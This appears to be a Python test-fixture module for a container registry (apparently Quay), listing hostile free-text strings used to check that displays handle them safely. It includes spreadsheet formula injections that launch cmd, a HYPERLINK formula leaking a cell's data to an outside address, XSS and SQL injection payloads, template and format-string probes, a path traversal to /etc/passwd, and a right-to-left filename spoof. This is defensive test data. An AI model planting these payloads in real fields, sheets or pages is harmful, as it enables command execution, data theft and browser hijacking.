"""Texts that anybody may send to a registry, so that whatever shows them can be proven safe.

Quay checks the names of users, organizations, robots and repositories; it takes these wherever a text is free: user
agents, descriptions, titles, label values, and what was asked for in vain.
"""

from typing import Final

FORMULA: Final = "=cmd|' /C calc'!A0"
SCRIPT: Final = "<script>alert('audit')</script>"
# A place that sees only a few of them sees one of each sort.
TEXTS: Final = (
    FORMULA,
    SCRIPT,
    "日本語の説明：安全です",
    "'; drop table events; --",
    "\x1b[31mred alert\x1b[0m\x07\x08",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "photo_\u202egnp.exe",
    '"><img src=x onerror=alert(1)>',
    "+1+cmd|' /C calc'!A0",
    "🚀🧨👩‍💻 zero\u200bwidth\ufeff and \u2028 separators",
    "\tleading tab, \r\nthen a line of its own",
    '=HYPERLINK("http://192.0.2.7/?leak="&A1,"click")',
    "زر التحكم في المستودع",
    "\" or '1'='1",
    "-2+3+cmd|' /C calc'!A0",
    "выпуск для проверки",
    "{{7*7}} ${7*7} %{7*7} #{7*7}",
    "%s%n%x %00 ../../etc/passwd",
    "null",
    "back\\slash, comma; semicolon, 'single' and \"double\"",
)
TAGS: Final = ("版本-1.0", "выпуск-3", "v1.0-β", "αβγ")  # what `[\w][\w.-]{0,127}` lets through
